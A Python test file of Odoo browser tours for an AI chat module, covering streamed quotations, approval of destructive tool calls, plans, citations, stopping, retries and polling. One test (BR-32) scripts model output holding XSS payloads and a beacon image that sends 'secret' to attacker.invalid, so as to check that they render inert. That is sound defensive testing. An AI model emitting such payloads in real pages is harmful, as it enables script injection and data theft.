"""The chat in a real browser (issue 11 points 1, 2 and 5): Odoo's tours
in headless Chromium drive static/src/chat_action/ and its store
(static/src/core/chat_store.js) against the real routes and the scripted
LLM server (static/tests/tours/chat_tour.js)."""
import threading
import time

from odoo import SUPERUSER_ID, api
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import config

from .common import AgenticSetupMixin, observation_records, tool_call

CRON = "agentic_ai.ir_cron_process_pending_tasks"

QUOTE = "Create a quotation for Azure Interior: 3 Office Chair Black and 1 Large Cabinet"


@tagged("post_install", "-at_install")
class TestChatTour(AgenticSetupMixin, HttpCase):

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.setup_agentic()
        cls.salesperson = new_test_user(
            cls.env, "chat_sales", groups="base.group_user,agentic_ai.group_agentic_ai_user,"
                                          "sales_team.group_sale_salesman,base.group_partner_manager")

    def thread(self):
        return self.env["agentic.ai.thread"].search([("user_id", "=", self.salesperson.id)], limit=1)

    def test_salesperson_streams_a_quotation_with_its_tool_steps(self):
        words = " ".join(f"w{i}" for i in range(25))

        logo = f"http://localhost:{config['http_port']}/web/static/img/logo.png"  # another origin than 127.0.0.1

        def answer(request):
            order = next(row for row in observation_records(request) if str(row.get("name", "")).startswith("S"))
            link = f"[{order['name']}](/odoo/sale.order/{order['id']})"
            return {"content": f"Your quotation is ready: {link}. {words}\n\n![logo]({logo})", "chunk_delay": 0.12}

        self.script(tool_call("create_quotation", {"partner": "Azure Interior", "lines": [
            {"product": "Office Chair Black", "quantity": 3}, {"product": "Large Cabinet", "quantity": 1}]},
            "call_quote"), answer)
        before = self.env["sale.order"].search([]).ids
        self.start_tour("/odoo", "agentic_ai_chat_quotation", login="chat_sales", timeout=120)
        order = self.env["sale.order"].search([("id", "not in", before)])
        self.assertEqual(len(order), 1, "the agent created one quotation")
        self.assertEqual(order.partner_id.name, "Azure Interior")
        self.assertEqual(sorted(order.order_line.mapped("product_uom_qty")), [1.0, 3.0])
        thread = self.thread()
        self.assertEqual(thread.state, "completed")
        self.assertEqual(thread.name, QUOTE[:60].strip(), "a new conversation is named after its first message")
        self.assertEqual(thread.message_ids.filtered(lambda m: m.role == "user").mapped("content"), [QUOTE],
                         "the message was sent once, without the line Shift+Enter broke")
        stream = self.scenario.requests[-1]["stream"]
        self.assertEqual(stream["sent"], stream["total"], "the answer streamed to its end")

    def test_approval_and_rejection_through_the_confirmation_bar(self):
        self.agent.require_confirmation = "destructive"
        first = self.env["res.partner"].create({"name": "Tour Partner A"})
        second = self.env["res.partner"].create({"name": "Tour Partner B"})
        self.script(tool_call("odoo_unlink", {"model": "res.partner", "record_ids": [first.id]}, "call_a"),
                    {"content": "Deleted Tour Partner A."},
                    tool_call("odoo_unlink", {"model": "res.partner", "record_ids": [second.id]}, "call_b"),
                    {"content": "Understood, I kept Tour Partner B."},
                    tool_call("odoo_write", {"model": "res.partner", "record_ids": [second.id],
                                             "values": {"comment": "A long note. " * 50 + "END-OF-NOTE"}}, "call_c"))
        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_confirmation", login="chat_sales",
                        timeout=120)
        self.assertFalse(second.comment, "the cancelled note was not written")
        self.assertFalse(first.exists(), "the approved deletion ran")
        self.assertTrue(second.exists(), "the rejected deletion did not run")
        self.assertIn("still a customer", self.scenario.chat_requests()[-2]["messages"][-1]["content"],
                      "the model was told the reason of the rejection")
        responses = self.thread().message_ids.filtered(lambda m: m.role == "confirmation_response")
        self.assertEqual(len(responses), 3, "approved, rejected, cancelled")

    def test_plan_panel_shows_the_threads_latest_plan(self):
        thread = self.agent.with_user(self.salesperson).start_thread(name="Plan tour")
        Plan = self.env["agentic.ai.plan"]
        Plan.create({"thread_id": thread.id, "goal": "an older plan"})._add_steps([{"description": "Old step"}])
        plan = Plan.create({"thread_id": thread.id, "goal": "Buy, receive, sell, invoice",
                            "mode_reason": 'Hybrid: complex request ("then", 63 words)'})
        first, second, third, fourth = plan._add_steps([
            {"description": "Create the purchase order", "tool": "create_purchase_order"},
            {"description": "Receive the goods", "tool": "validate_picking"},
            {"description": "Create the sale order", "tool": "create_sale_order"},
            {"description": "Invoice the sale", "tool": "create_invoice"},
        ])
        plan._set_state("executing")
        plan._set_state("replanning")
        for step, states, values in ((first, ("running", "completed"), {"result": "P00042"}),
                                     (second, ("skipped",), {}),
                                     (third, ("running", "failed"), {"error": "no price for the vendor"}),
                                     (fourth, ("running",), {})):
            for state in states:
                step.write({"state": state, **values})
        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_plan_panel", login="chat_sales",
                        timeout=120)

    def test_citations_open_their_knowledge_source(self):
        """Issue 13 point 6: an answer's references are shown as numbered
        citations; one opens its source's form."""
        source = self.env["agentic.ai.knowledge.source"].create({
            "name": "Returns Handbook", "source_type": "text", "raw_text": "Returns within 30 days."})
        thread = self.agent.with_user(self.salesperson).start_thread(name="Citations tour")
        thread.add_user_message("How long for returns?")
        thread.add_assistant_message("Within 30 days [1].", references=[
            {"content": "Returns within 30 days.", "source": "Returns Handbook", "source_id": source.id,
             "score": 0.91}])
        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_citations", login="chat_sales",
                        timeout=120)

    def test_stop_button_interrupts_the_run(self):
        words = " ".join(f"w{i}" for i in range(200))
        self.script({"content": words, "chunk_delay": 0.1})
        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_stop", login="chat_sales",
                        timeout=120)
        thread = self.thread()
        self.assertEqual(thread.state, "interrupted", "the run stopped when the user pressed Stop")
        stream = self.scenario.requests[-1]["stream"]
        self.assertLess(stream["sent"], stream["total"], "the provider's answer was cut short")
        self.assertEqual(len(self.scenario.chat_requests()), 1, "the stopped turn was not run again")

    def test_leaving_the_chat_while_it_streams_leaves_nothing_running(self):
        """The chat's state lives in its store (static/src/core/chat_store.js),
        which outlives the page: opening the chat again while a reply
        streams must stop following the old stream, show the conversation,
        follow its run to the end and leave the page idle, not spinning."""
        # A second between two chunks: the run notices its stream is gone
        # only at the next one, so the page opened again finds it still
        # executing and must follow it to its end by polling.
        words = " ".join(f"w{i}" for i in range(40))
        self.script({"content": words, "chunk_delay": 1.0})
        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_leave", login="chat_sales",
                        timeout=120)
        thread = self.thread()
        self.assertEqual(thread.state, "interrupted", "the stream left behind stopped its run")
        self.assertEqual(len(self.scenario.chat_requests()), 1, "the turn was not run again")
        self.assertEqual(thread.message_ids.filtered(lambda m: m.role == "user").mapped("content"),
                         ["tell me a long story"], "the message was sent once")

    def test_a_message_typed_while_a_conversation_loads_goes_to_that_conversation(self):
        """The user clicks Beta and types at once, while Beta still loads (a
        slow network): the message goes to Beta and the page shows only
        Beta's rows, never Alpha's beside Beta's run."""
        agent = self.agent.with_user(self.salesperson)
        threads = {}
        for name in ("Alpha", "Beta"):
            threads[name] = agent.start_thread(name=name)
            threads[name].add_user_message(f"{name.lower()} question")
            threads[name].add_assistant_message(f"{name.lower()} answer")
        self.script({"content": "hurried answer"})
        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_hurried_switch",
                        login="chat_sales", timeout=120)
        asked = {name: thread.message_ids.filtered(lambda m: m.role == "user").mapped("content")
                 for name, thread in threads.items()}
        self.assertEqual(asked, {"Alpha": ["alpha question"], "Beta": ["beta question", "hurry up"]})

    def test_a_second_message_while_the_conversation_is_created_waits(self):
        self.script({"content": "answer one"}, {"content": "answer two"})
        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_double_send",
                        login="chat_sales", timeout=120)
        threads = self.env["agentic.ai.thread"].search([("user_id", "=", self.salesperson.id)])
        self.assertEqual(len(threads), 1, "one conversation")
        self.assertEqual(threads.message_ids.filtered(lambda m: m.role == "user").mapped("content"),
                         ["first message"])
        self.assertEqual(len(self.scenario.chat_requests()), 1, "one run")

    def test_retry_sends_again_only_what_never_arrived(self):
        self.script({"content": "first answer"}, {"status": 400, "error": "provider down"})
        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_retry", login="chat_sales",
                        timeout=120)
        thread = self.thread()
        self.assertEqual(len(self.env["agentic.ai.thread"].search([("user_id", "=", self.salesperson.id)])), 1)
        self.assertEqual(thread.message_ids.filtered(lambda m: m.role == "user").mapped("content"),
                         ["hello there", "and now?"], "each message stored once")

    def test_owner_renames_and_archives_a_thread_and_the_list_hides_it(self):
        thread = self.agent.with_user(self.salesperson).start_thread(name="old name")
        kept = self.agent.with_user(self.salesperson).start_thread(name="kept")
        thread.with_user(self.salesperson).write({"name": "new name"})
        thread.with_user(self.salesperson).write({"active": False})
        self.authenticate("chat_sales", "chat_sales")
        listed = self.make_jsonrpc_request("/agentic_ai/thread/list", {})
        self.assertEqual([t["id"] for t in listed], [kept.id], "an archived conversation is not listed")
        self.assertEqual((thread.name, thread.active), ("new name", False))
        answer = self.make_jsonrpc_request("/agentic_ai/thread/messages", {"thread_id": thread.id})
        self.assertEqual(answer["thread"]["name"], "new name", "an archived conversation can still be opened")

    def test_BR_32_model_output_renders_inert(self):
        """Case BR-32: the model's answer carries script payloads and a
        beacon image next to normal Markdown; the tour checks that no
        payload ran, no request left for attacker.invalid, the raw HTML is
        text and the table and code block render."""
        self.script({"content": (
            "Here is the report.\n\n"
            '<img src=x onerror="window.__pwned=1">\n\n'
            '<svg onload="window.__pwned=2">\n\n'
            "[open](javascript:window.__pwned=3)\n\n"
            "![s](http://attacker.invalid/p.png?d=secret)\n\n"
            "<script>window.__pwned=4</script>\n\n"
            "| Product | Quantity |\n|---|---|\n| Office Chair Black | 3 |\n\n"
            "```python\nprint('quotation ready')\n```\n")})
        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_br32", login="chat_sales",
                        timeout=120)
        reply = self.thread().message_ids.filtered(lambda m: m.role == "assistant")
        self.assertEqual(len(reply), 1)
        self.assertIn("attacker.invalid", str(reply.content_html), "the image is a placeholder naming its host")

    def test_polling_when_streaming_is_off(self):
        """With Settings' "Follow runs by polling" on (a proxy that buffers),
        the chat queues the message (chat/send_async), shows it queued,
        and polls; once the processor ran, the reply is shown once. Then a
        second message is run by the processor while the page polls: every
        row appears once (the client drops ids it already shows)."""
        self.authenticate("chat_sales", "chat_sales")
        agents = self.make_jsonrpc_request("/agentic_ai/agents", {})
        self.assertTrue(agents and all(agent["streaming"] for agent in agents), "streaming is on by default")
        self.env["ir.config_parameter"].sudo().set_param("agentic_ai.chat_polling", "True")
        agents = self.make_jsonrpc_request("/agentic_ai/agents", {})
        self.assertFalse(any(agent["streaming"] for agent in agents), "the client is told to poll")
        self.script({"content": "processed in the background"})
        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_polling_send", login="chat_sales",
                        timeout=120)
        thread = self.thread()
        self.assertEqual((thread.state, thread.pending_message), ("queued", "summarise my week in the background"))
        self.assertFalse(self.scenario.chat_requests(), "nothing streamed: the message waits in the queue")
        self.env.ref(CRON).method_direct_trigger()  # HttpCase: the registry is in test mode already
        self.assertEqual(thread.state, "completed")
        # Then a second message, polled live while the processor runs it.
        self.script({"content": "the week before was quiet"})
        self.tour_with_processor(thread.id, "and the week before?", "agentic_ai_chat_polling_receive")
        thread.invalidate_recordset()
        self.assertEqual(thread.message_ids.filtered(lambda m: m.role in ("user", "assistant")).mapped("content"),
                         ["summarise my week in the background", "processed in the background",
                          "and the week before?", "the week before was quiet"])

    def test_an_answer_is_queued_when_streaming_is_off(self):
        """Without the stream (polling on here; an HTTP worker of a
        multi-process Odoo answers the stream 503 the same way), Approve
        queues the answer (confirm/approve_async) instead of running the
        call and the model in the request (issue 26 point 1); the processor
        runs it once and the page shows the reply once."""
        self.env["ir.config_parameter"].sudo().set_param("agentic_ai.chat_polling", "True")
        self.agent.require_confirmation = "destructive"
        partner = self.env["res.partner"].create({"name": "Tour Partner Q"})
        self.script(tool_call("odoo_unlink", {"model": "res.partner", "record_ids": [partner.id]}, "call_q"),
                    {"content": "Deleted Tour Partner Q."})
        agent = self.agent.with_user(self.salesperson)
        thread = agent.start_thread(name="delete Tour Partner Q")
        self.assertEqual(agent.run(thread.id, "delete Tour Partner Q").state, "waiting_confirmation")
        self.tour_with_processor(thread.id, "Approved", "agentic_ai_chat_polling_answer")
        thread.invalidate_recordset()
        self.assertFalse(partner.exists(), "the approved deletion ran, in the processor")
        self.assertEqual((thread.state, thread.pending_answer), ("completed", False))
        self.assertEqual(len(thread.message_ids.filtered(lambda m: m.role == "confirmation_response")), 1)

    def tour_with_processor(self, thread_id, message, tour):
        """Run ``tour`` as chat_sales while the queue processor runs once
        ``message`` waits on ``thread_id`` (``run_processor_when_queued``)."""
        join = self.run_processor_when_queued(thread_id, message)
        try:
            self.start_tour("/odoo/action-agentic_ai.chat_action", tour, login="chat_sales", timeout=120)
        finally:
            join()

    def run_processor_when_queued(self, thread_id, message):
        """Start a thread that runs the queue processor once ``message``
        waits on ``thread_id``, as the cron would while the page polls; the
        test's cursor is shared under Odoo's registry test lock, which the
        tour releases. Returns a function that joins it and re-raises."""
        errors = []
        session_before = getattr(self, "session", None)

        def work():
            threading.current_thread().testing = True
            # The test's own thread uses the shared connection without the test lock while start_tour logs the
            # user in (browser_js: authenticate, which replaces self.session first, then a flush): begin once
            # that is over, while the tour runs.
            waited = time.monotonic() + 60
            while getattr(self, "session", None) is session_before and time.monotonic() < waited:
                time.sleep(0.05)
            time.sleep(2)
            try:
                deadline = time.monotonic() + 90
                while time.monotonic() < deadline:
                    with self.registry.cursor() as cr:
                        env = api.Environment(cr, SUPERUSER_ID, {})
                        queued = env["agentic.ai.thread"].search_count([
                            ("id", "=", thread_id), ("state", "=", "queued"), ("pending_message", "=", message)])
                        if queued:
                            env.ref(CRON).method_direct_trigger()
                            return
                    time.sleep(0.2)
                errors.append(AssertionError(f"{message!r} was never queued"))
            except Exception as exc:  # noqa: BLE001 - re-raised in the test's thread by join()
                errors.append(exc)

        worker = threading.Thread(target=work, name="agentic-ai-test-processor")
        worker.start()

        def join():
            worker.join(120)
            if errors:
                raise errors[0]
        return join


@tagged("post_install", "-at_install")
class TestChatTourPhone(AgenticSetupMixin, HttpCase):
    """The chat at a phone's width (issue 11 point 1)."""

    browser_size = "390x844"

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.setup_agentic()
        new_test_user(cls.env, "chat_phone", groups="base.group_user,agentic_ai.group_agentic_ai_user")

    def test_phone_width_sidebar_folds_and_a_message_gets_its_reply(self):
        self.script({"content": "Hello from the desk: your week has 3 quotations."})
        self.start_tour("/odoo/action-agentic_ai.chat_action", "agentic_ai_chat_phone", login="chat_phone",
                        timeout=120)
